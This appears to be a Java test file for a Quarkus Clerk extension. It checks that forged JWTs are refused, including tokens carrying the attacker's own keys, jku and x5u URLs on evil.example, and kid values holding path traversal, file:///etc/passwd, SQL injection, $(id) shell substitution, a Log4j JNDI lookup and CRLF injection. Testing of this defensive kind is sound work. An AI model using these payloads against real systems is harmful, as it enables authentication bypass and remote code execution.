package io.quarkiverse.clerk.attack;

import static io.quarkiverse.clerk.attack.ForgedToken.INSTANCE_KEY;
import static io.quarkiverse.clerk.attack.ForgedToken.OTHER_KEY;
import static io.quarkiverse.clerk.attack.ForgedToken.claims;
import static io.quarkiverse.clerk.attack.ForgedToken.signed;
import static io.quarkiverse.clerk.attack.TokenAttack.refused;

import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import io.quarkiverse.clerk.conformance.TestKeys;

/**
 * The key: an attacker's own, sent along or pointed at, and ids of keys that are paths, queries or no text. Keys come from the
 * Backend API of the instance or its configuration and from nowhere else; {@link AbstractTokenAttacks} counts the requests.
 */
class KeyInjectionTest extends AbstractTokenAttacks {

    static final String TITLE = "The key";

    private static final String UNKNOWN_KEY = "jwk-kid-mismatch";
    private static final String WRONG_SIGNATURE = "token-invalid-signature";

    static List<TokenAttack> attacks() {
        List<TokenAttack> attacks = new ArrayList<>();
        attacks.add(refused("a key of one's own under the `kid` of the instance's key", signed(header("\"kid\":\"ins_1\""),
                claims(), OTHER_KEY), WRONG_SIGNATURE));
        ownKeys().forEach((member, json) -> {
            attacks.add(refused("a key of one's own in `" + member + "`, the instance's `kid`",
                    signed(header("\"kid\":\"ins_1\"", '"' + member + "\":" + json), claims(), OTHER_KEY), WRONG_SIGNATURE));
            attacks.add(refused("a key of one's own in `" + member + "`, no `kid`",
                    signed(header('"' + member + "\":" + json), claims(), OTHER_KEY), UNKNOWN_KEY));
        });
        kids().forEach((name, json) -> attacks.add(refused("`kid` that is " + name,
                signed(header("\"kid\":" + json), claims(), OTHER_KEY), UNKNOWN_KEY)));
        attacks.add(refused("`kid` in other letter case, signed with the instance's key",
                signed(header("\"kid\":\"INS_1\""), claims(), INSTANCE_KEY), UNKNOWN_KEY));
        for (String crit : List.of("[\"exp\"]", "[\"b64\"]", "[]", "\"exp\"", "{}", "true")) {
            attacks.add(refused("`crit` " + crit + ", signed with the instance's key",
                    signed(header("\"kid\":\"ins_1\"", "\"exp\":1,\"b64\":false,\"crit\":" + crit), claims(), INSTANCE_KEY),
                    "token-invalid"));
        }
        return attacks;
    }

    private static Map<String, String> ownKeys() {
        String jwk = "{\"kty\":\"RSA\",\"kid\":\"ins_1\",\"alg\":\"RS256\",\"n\":\"" + TestKeys.jwk(OTHER_KEY, "ins_1").n()
                + "\",\"e\":\"AQAB\"}";
        String der = Base64.getEncoder().encodeToString(TestKeys.publicKey(OTHER_KEY).getEncoded());
        Map<String, String> keys = new LinkedHashMap<>();
        keys.put("jwk", jwk);
        keys.put("jwks", "{\"keys\":[" + jwk + "]}");
        keys.put("jku", "\"https://evil.example/jwks.json\"");
        keys.put("x5u", "\"https://evil.example/certificate.pem\"");
        keys.put("x5c", "[\"" + der + "\"]");
        keys.put("x5t", "\"" + der.substring(0, 27) + '"');
        keys.put("url", "\"http://127.0.0.1:9/keys\"");
        return keys;
    }

    private static Map<String, String> kids() {
        Map<String, String> kids = new LinkedHashMap<>();
        kids.put("unknown", "\"ins_2\"");
        kids.put("a path", "\"../../ins_1\"");
        kids.put("a file", "\"/dev/null\"");
        kids.put("a file URL", "\"file:///etc/passwd\"");
        kids.put("a URL", "\"https://evil.example/jwks.json\"");
        kids.put("SQL", "\"ins_1' OR '1'='1\"");
        kids.put("a shell command", "\"$(id)|`id`\"");
        kids.put("a lookup of Log4j", "\"${jndi:ldap://evil.example/a}\"");
        kids.put("the right one and a NUL", "\"ins_1\\u0000\"");
        kids.put("the right one and a blank", "\" ins_1\"");
        kids.put("the right one and a line break", "\"ins_1\\r\\nSet-Cookie: a=b\"");
        kids.put("empty", "\"\"");
        kids.put("null", "null");
        kids.put("a number", "1");
        kids.put("a list with the right one", "[\"ins_1\"]");
        kids.put("an object", "{\"ins_1\":\"ins_1\"}");
        kids.put("huge", '"' + "k".repeat(100_000) + '"');
        return kids;
    }

    private static String header(String... members) {
        return "{\"alg\":\"RS256\",\"typ\":\"JWT\"," + String.join(",", members) + '}';
    }
}
